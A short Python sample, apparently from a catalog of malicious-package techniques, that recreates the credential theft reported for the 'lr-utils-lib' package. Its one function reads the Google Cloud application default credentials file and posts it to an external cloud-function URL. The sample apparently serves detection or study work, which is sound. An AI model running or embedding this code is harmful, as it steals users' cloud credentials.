# technique: gcloud application default credentials uploaded
# class: credential-theft
# source: Checkmarx, "lr-utils-lib" (2024): Google Cloud credentials stolen from macOS hosts
# declares: network
import json
import os

import requests


def upload():
    p = os.path.expanduser("~/.config/gcloud/application_default_credentials.json")
    requests.post("https://europe-west2-workload-422915.cloudfunctions.net/init", json=json.load(open(p)), timeout=5)
